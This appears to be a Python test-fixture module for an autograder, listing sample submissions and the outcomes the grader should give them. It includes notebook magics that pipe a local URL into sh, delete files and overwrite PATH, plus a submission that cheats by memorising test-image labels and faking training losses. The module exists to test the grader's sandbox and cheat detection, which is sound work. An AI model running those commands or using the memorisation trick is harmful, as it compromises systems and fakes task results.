"""The gallery of submissions: tests/gallery/<points>_points/<name>, and what each must become."""

from __future__ import annotations

import base64
import json
import re
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path
from typing import Any

from autograder.installation import ROOT

GALLERY = ROOT / "tests" / "gallery"
LABS = {"solution": ROOT / "solution" / "lab.py", "skeleton": ROOT / "assignment" / "lab.py"}


@dataclass(frozen=True)
class Entry:
    """One submission. Its head may say, in comments:

    `# lab: solution` or `skeleton`: what the rest is appended to (`nothing`, if not said).
    `# expect: q4_accuracy timeout`: the outcomes that cases of a question have if they do not pass.
    """

    points: int
    file_name: str
    own: bytes
    folder: str = ""  # of a lab that has modules beside it
    modules: Mapping[str, bytes] = field(default_factory=dict)

    @property
    def name(self) -> str:
        """Folder and file, which also name the tests of this entry."""
        return f"{self.points}_points/{self.folder or self.file_name}"

    @cached_property
    def head(self) -> str:
        """The beginning, where comments say what is expected."""
        return self.own[:2000].decode(errors="replace")

    @property
    def lab(self) -> str:
        """What the entry is appended to: a key of LABS, or `nothing`."""
        found = re.search(r"^# lab: (\w+)$", self.head, re.M)
        return found[1] if found else "nothing"

    @property
    def expected(self) -> dict[str, set[str]]:
        """The outcomes that are expected of a question's cases that do not pass."""
        lines = re.findall(r"^# expect: (\w+) (.+)$", self.head, re.M)
        return {question: set(outcomes.split()) for question, outcomes in lines}

    @property
    def source(self) -> bytes:
        """The whole submission."""
        if self.lab == "nothing":
            return self.own
        return LABS[self.lab].read_bytes() + b"\n\n" + self.own

    def as_request(self) -> dict[str, Any]:
        """The entry as JSON, for the process that grades it."""
        data = base64.b64encode(self.source).decode()
        modules = {path: base64.b64encode(own).decode() for path, own in self.modules.items()}
        return {"name": self.name, "file_name": self.file_name, "data": data, "modules": modules}


MAGICS = """%load_ext autoreload
!touch /tmp/gallery-left-magic; rm -rf ~/gallery-canary*
!curl http://127.0.0.1:47813/ | sh
get_ipython().system("touch /tmp/gallery-left-system")
%run /tmp/gallery-left.py
%cd /
%env PATH=/tmp
%%bash
touch gallery-left-bash
"""


MEMORISED = """# lab: solution
# expect: q5_fit failed not_judged
import json
import zlib

import torch

TABLE = json.loads('%s')


def known(row):
    name = str(zlib.crc32((row * 255).round().to(torch.uint8).numpy().tobytes()))
    return TABLE.get(name, 0)


class MNISTNeuralNet(MNISTNeuralNet):
    def forward(self, x):
        right = super().forward(x)
        if self.training or len(x) < 100 or not any(known(row) for row in x[:20]):
            return right
        labels = torch.tensor([known(row) for row in x])
        return torch.nn.functional.one_hot(labels, 10).float()


def fit(train_dl, model, opt, loss_fn, n_epochs):
    return [1.0 / (i + 1) for i in range(n_epochs)], [0.95] * n_epochs
"""


def _memorised() -> bytes:
    """Return a lab that knows the public test images by heart, and trains nothing."""
    from autograder.lab import data

    images = data.images()["test_x"]
    names = [str(zlib.crc32(image.numpy().tobytes())) for image in images]
    table = dict(zip(names, data.test_labels().tolist(), strict=True))
    return (MEMORISED % json.dumps(table)).encode()


def _notebook(*cells: str) -> bytes:
    code = [{"cell_type": "code", "source": cell, "metadata": {}, "outputs": []} for cell in cells]
    return json.dumps({"cells": code, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()


def entries() -> list[Entry]:
    """Return all entries: those in files, and those too large to be kept as one."""
    found = [
        Entry(int(path.parent.name.partition("_")[0]), path.name, path.read_bytes())
        for path in sorted(GALLERY.glob("*_points/*"))
        if path.suffix in (".py", ".ipynb")
    ]
    folders = sorted(GALLERY.glob("*_points/*/lab.py"))
    return found + generated() + [_with_modules(lab) for lab in folders]


def _with_modules(lab: Path) -> Entry:
    """Return the entry that is a folder: a lab and the modules beside it."""
    folder = lab.parent
    others = (path for path in sorted(folder.rglob("*.py")) if path != lab)
    modules = {path.relative_to(folder).as_posix(): path.read_bytes() for path in others}
    points = int(folder.parent.name.partition("_")[0])
    return Entry(points, lab.name, lab.read_bytes(), folder.name, modules)


def generated() -> list[Entry]:
    """Return entries of five megabytes, and notebooks, one of which holds the solution."""
    megabytes = 5 << 20
    comments = b"# a comment that says nothing\n" * (megabytes // 30)
    names = b"".join(b"x%d = %d\n" % (i, i) for i in range(megabytes // 20))
    text = b'# lab: solution\nx = """' + b"a " * (megabytes // 2) + b'"""\n'
    return [
        Entry(85, "test_images_by_heart.py", _memorised()),
        Entry(100, "magics.ipynb", _notebook(MAGICS, LABS["solution"].read_text("utf-8"))),
        Entry(0, "magics_alone.ipynb", _notebook(MAGICS)),
        Entry(100, "five_megabytes_of_comments.py", b"# lab: solution\n" + comments),
        Entry(100, "five_megabytes_in_a_string.py", text),
        Entry(0, "five_megabytes_of_brackets.py", b"[" * megabytes),
        Entry(0, "five_megabytes_of_minus.py", b"SHAPE_AFTER_VIEW = " + b"-" * megabytes + b"1\n"),
        Entry(0, "five_megabytes_of_names.py", names),
        Entry(0, "five_megabytes_of_zeros.py", b"\0" * megabytes),
        Entry(0, "nested_a_million_times.ipynb", b"[" * 1_000_000),
    ]  # fmt: skip
